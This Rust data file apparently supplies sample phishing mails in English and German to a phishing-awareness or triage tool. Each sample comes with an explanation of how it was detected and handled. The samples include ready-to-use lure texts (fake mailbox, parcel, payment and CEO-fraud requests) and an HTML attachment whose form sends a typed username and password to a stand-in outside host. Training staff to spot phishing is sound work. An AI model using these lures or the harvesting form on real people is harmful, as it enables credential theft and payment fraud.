//! Mails that try to trick. They borrow from no real company, and from no fear about pay or health.

use goodcatch_triage::Verdict::{Legitimate, Phishing};

use super::Checked::{Fail, None as Unchecked, Pass};
use super::Mail;
use super::Style::{Card, Letter, Plain};

/// The mails of the five waves of the year and of the one that is growing now, in that order.
pub static WAVES: [Mail; 6] = [
    Mail::new(
        Phishing, "en",
        ("Harbour Light Mail Desk", "desk{n}@harbourl1ght.example"),
        "Your mailbox will stop receiving on {day}",
        &["Hello {first},",
          "The move to the new mail rooms ends on {day}. 1,{n} messages for you are still held in the old room and cannot be delivered before you confirm that the mailbox is in use.",
          "Sign in to your account once and confirm your details. It takes less than a minute, and nothing on your computer changes.",
          "Mailboxes that are not confirmed are closed for incoming messages at 18:00.",
          "Mail Desk, ticket {n}"],
    )
    .link("Confirm mailbox {n}", "https://mailroom-{code}.harbourl1ght.example/confirm/{code}")
    .looks(Card, Fail)
    .found("The sender's domain has a 1 in place of an i. The sign-in page behind the link copied ours and is blocked in all three ports.\n\nDie Absenderadresse schreibt eine 1 statt eines i. Die nachgebaute Anmeldeseite ist an allen drei Standorten gesperrt.")
    .done("We took the remaining copies out of all mailboxes and had the domain shut down by its registrar. Eleven colleagues who had signed in called us at once; their passwords were changed within the hour. New mail from look-alike domains now carries a banner.\n\nWir haben alle übrigen Kopien aus den Postfächern entfernt; die Domain ist abgeschaltet. Wer sich angemeldet hatte, rief sofort an, und die Kennwörter waren binnen einer Stunde geändert. Post von ähnlich klingenden Domains trägt jetzt einen Hinweis."),
    Mail::new(
        Phishing, "de",
        ("Hafenpost Kundenservice", "zustellung-{n}@hafenpost-sendung.example"),
        "Sendung {n}: Zustellung am {day} nicht möglich",
        &["Guten Tag {first},",
          "Ihre Sendung {n} liegt in unserem Depot. Der Fahrer konnte die Adresse nicht eindeutig zuordnen.",
          "Bitte bestätigen Sie Ihre Lieferadresse und die Umleitungsgebühr von 1,95 EUR innerhalb von 24 Stunden. Danach geht Ihre Sendung an den Absender zurück.",
          "Ihr Zustellteam, Depot Nord {code}"],
    )
    .link("Anschrift bestätigen", "https://zustellung-verify.{code}-depot.test/{code}/umleitung")
    .looks(Card, Fail)
    .found("Die Seite hinter dem Link fragt nach Kartendaten; einen solchen Zustelldienst gibt es nicht. Sie ist gesperrt. Wer schon etwas eingegeben hat: bitte die Bank anrufen und dann uns, wir helfen gern.\n\nThe page asks for card details; there is no such parcel service. It is blocked.")
    .done("Alle Kopien sind aus den Postfächern entfernt. Die Poststelle nimmt private Pakete jetzt nur noch mit einem Aushang am Empfang an: Wer ein Paket hat, findet seinen Namen dort und muss keiner Nachricht folgen."),
    Mail::new(
        Phishing, "en",
        ("{sender} via Chart Room", "share@chartroom-files.test"),
        "{sender} shared \"Berth plan rev {n}\" with you",
        &["{sender} has shared a document with you.",
          "Berth plan rev {n}.pdf - 2 pages, expires in 24 hours.",
          "The document is protected and expires in 24 hours. Sign in to your account to view the document.",
          "Chart Room keeps your team on the same page."],
    )
    .link("Open document", "https://docs-signin.berth-{code}.invalid/open?d={code}&u={n}")
    .looks(Card, Pass)
    .found("The document does not exist; the page behind it collects work passwords. The sender's account at a file service was real, which is why the checks passed.\n\nDas Dokument gibt es nicht; die Seite dahinter sammelt Kennwörter. Das Absenderkonto war echt, darum schlugen die Prüfungen nicht an.")
    .done("The file service closed the account on our report. Berth plans now come only from the traffic office's own page, and everyone who gets them has been told so."),
    Mail::new(
        Phishing, "en",
        ("Voice Desk", "voice-{code}@lantern-call.invalid"),
        "You missed a call (0:{n} s) from the lock office",
        &["New voice message for {first}",
          "Caller: Lock office, extension {n}. Length: 34 seconds.",
          "The recording is attached as a page. Open it in your browser to listen. If you are asked to sign in, use your work account."],
    )
    .file("voice-message.html", "<html><body><form action=\"https://listen.lantern-call.invalid/in\"><input name=\"user\"><input type=\"password\" name=\"secret\"></form></body></html>")
    .looks(Plain, Fail)
    .found("Our telephones do not send recordings as files. The attached page draws a sign-in form on your own computer and sends what is typed to somebody else.\n\nUnsere Telefonanlage verschickt keine Aufnahmen als Datei. Der Anhang zeichnet ein Anmeldefenster und schickt die Eingaben an Fremde.")
    .done("HTML files are now held back at the mail gate until somebody looks at them. Nobody here needs them for work; if you do, tell the service desk."),
    Mail::new(
        Phishing, "de",
        ("Margarethe Oldehus", "direktion{n}@kanzlei-nordlicht.test"),
        "Kurze Bitte, vertraulich",
        &["Guten Morgen {first},",
          "sind Sie gerade am Platz? Ich sitze in einer Besprechung und kann nicht telefonieren. Ich brauche bis {day} Ihre Hilfe bei einem Gutschein für unsere Gäste vom Partnerhafen.",
          "Bitte antworten Sie nur auf diese Nachricht, ich melde mich dann mit den Einzelheiten.",
          "Freundliche Grüße",
          "Margarethe Oldehus"],
    )
    .reply_to("m.oldehus.privat{n}@postfach-frei.example")
    .looks(Plain, Unchecked)
    .found("Frau Oldehus hat das nicht geschrieben; die Antwort ginge an ein fremdes Postfach. Gut, dass so viele von Ihnen nachgefragt haben.\n\nThe director did not write this; answers go to a stranger's mailbox.")
    .done("Frau Oldehus hat in der Runde am Donnerstag erzählt, wie sie selbst einmal auf so eine Nachricht geantwortet hat. Und es bleibt dabei: Gutscheine und Zahlungen bittet hier niemand per Mail allein."),
    Mail::new(
        Phishing, "en",
        ("Harbour Light Security Team", "no-reply-{n}@account-notices.test"),
        "Sign-in from a new device in Port Ardent",
        &["Hello {first},",
          "We noticed an unusual sign-in to your account from a device we have not seen before.",
          "Where: Port Ardent. Device: tablet {code}. Request {n}.",
          "If this was you, there is nothing to do. If it was not, secure your account now: it will be blocked within 24 hours. For your safety the link works for 30 minutes."],
    )
    .link("This was not me", "https://login-{code}.harbourl1ght.invalid/was-not-me/{n}")
    .looks(Card, Fail)
    .found("We do not send sign-in warnings by mail. The page behind the button copied our sign-in page and is blocked.\n\nWir verschicken keine Anmeldewarnungen per Mail. Die Seite hinter dem Knopf ist gesperrt."),
];

/// Mails that reach a few people each.
pub static PHISHING: [Mail; 8] = [
    Mail::new(
        Phishing, "en",
        ("Tidewater Supplies Accounts", "accounts@tidewater-supplies-billing.example"),
        "Changed bank details for invoice {n}",
        &["Dear team,",
          "Please note that our bank account has changed with immediate effect. Invoice {n} for mooring lines should be paid to the new account in the attached letter.",
          "Kindly confirm by return that the change has been made, as our old account is being audited.",
          "Regards,", "{sender}, Accounts"],
    )
    .reply_to("tidewater.accounts{n}@mailbox-swift.test")
    .file("bank-letter.pdf.html", "<html><body>New account on request.</body></html>")
    .looks(Plain, Unchecked)
    .found("Purchasing called Tidewater on the number from the contract: their account has not changed. Nothing was paid.")
    .done("Changed bank details are now always confirmed by a call to a number we already have, whoever asks. Finance wrote that into the payment sheet so that nobody has to decide it alone."),
    Mail::new(
        Phishing, "de",
        ("Kaimail Speicherdienst", "speicher@kaimail-konto.test"),
        "Ihr Speicher ist zu 98 % belegt",
        &["Hallo {first},",
          "Ihr Postfach hat keinen Speicherplatz mehr. Ab {day} werden neue Nachrichten abgewiesen, und Ihr Konto wird gesperrt.",
          "Sie können den Speicher innerhalb von 24 Stunden kostenlos erweitern. Bitte melden Sie sich an und bestätigen Sie Ihr Konto."],
    )
    .link("Speicher erweitern", "https://webmail-login.{code}-plus.invalid/{code}")
    .looks(Card, Fail)
    .found("Unsere Postfächer haben keine solche Grenze, und von unserem Dienst kommt nie ein Link zur Anmeldung. Die Seite ist gesperrt."),
    Mail::new(
        Phishing, "en",
        ("Pilot Roster", "roster@pilot-roster.invalid"),
        "Action required: roster change, week {n}",
        &["Hi {first},", "Two of your turns were swapped. Sign in to your account within 24 hours and confirm your details, otherwise the change counts as agreed."],
    )
    .link("View roster", "https://signin.roster-{code}.test/week?k={code}")
    .looks(Letter, Unchecked)
    .found("The real roster lives on the pilots' page and never asks for a password by mail. The address is blocked.")
    .done("The roster page now has a short address on a sticker in the launch, so nobody needs a link for it."),
    Mail::new(
        Phishing, "en",
        ("Scanner Service", "scanner{n}@quay-print.example"),
        "Scan from device QP-{n}",
        &["A document was scanned and sent to you.", "Pages: 3. Device: QP-{n}, ground floor.", "View the document within 48 hours, then it will be deleted."],
    )
    .link("Download scan", "https://login.scan-{code}.invalid/s/{code}.zip")
    .looks(Plain, Fail)
    .found("Our scanners are called after lighthouses, and they send from our own domain. The file behind the link installs something; nobody opened it."),
    Mail::new(
        Phishing, "de",
        ("IT-Service Harbour Light", "it-service@harbour-light-support.test"),
        "Ihr Kennwort läuft in 24 Stunden ab",
        &["Guten Tag {first},", "Ihr Kennwort läuft ab, danach wird Ihr Konto gesperrt. Behalten Sie das bisherige Kennwort: Bitte melden Sie sich an und bestätigen Sie Ihr Konto.", "Ihr IT-Service"],
    )
    .link("Kennwort behalten", "https://konto.harbourl1ght.test/behalten/{code}")
    .looks(Letter, Fail)
    .found("Kennwörter laufen bei uns nicht ab, und der IT-Service fragt nie danach. Die Seite ist gesperrt, der Absender auch."),
    Mail::new(
        Phishing, "en",
        ("Donor Support Team", "portal-{n}@giving-beacon.test"),
        "A donor left a message for {first}",
        &["A supporter of your seafarers' centre left a private message and a gift.", "Sign in to your account to read it and verify your email. Messages will be deleted within 48 hours."],
    )
    .link("Read message", "https://secure-login.beacon-{code}.invalid/m/{code}")
    .looks(Card, Unchecked)
    .found("We have no portal of that name. The page copies the sign-in of our fundraising tool."),
    Mail::new(
        Phishing, "en",
        ("{sender}", "crew.agent{n}@seaway-agency.example"),
        "Crew change documents, vessel arriving {day}",
        &["Good day,", "Please find the crew list for the vessel arriving {day}. The archive is protected, the password is 1234.", "Kindly return the stamped copy today."],
    )
    .file("crewlist.zip", "not a real archive")
    .looks(Plain, Pass)
    .first(Legitimate, "The agency is a partner of ours and announces crew changes this way.")
    .found("The agency knows nothing of this vessel. The archive holds a program, not a list. It is blocked at the gate, and the agency has been warned that somebody writes in its name."),
    Mail::new(
        Phishing, "de",
        ("Video Service Team", "meeting-{n}@kai-konferenz.invalid"),
        "Besprechung in 15 Minuten: bitte beitreten",
        &["{sender} wartet im Besprechungsraum auf Sie.", "Für die Teilnahme ist sofort ein Sicherheitsupdate nötig. Bitte melden Sie sich an, um es herunterzuladen."],
    )
    .link("Jetzt beitreten", "https://update-login.raum-{code}.test/{n}")
    .looks(Card, Fail)
    .found("Die angebliche Aktualisierung ist ein Schadprogramm. Sie wurde auf keinem Gerät gestartet; die Seite ist gesperrt."),
];
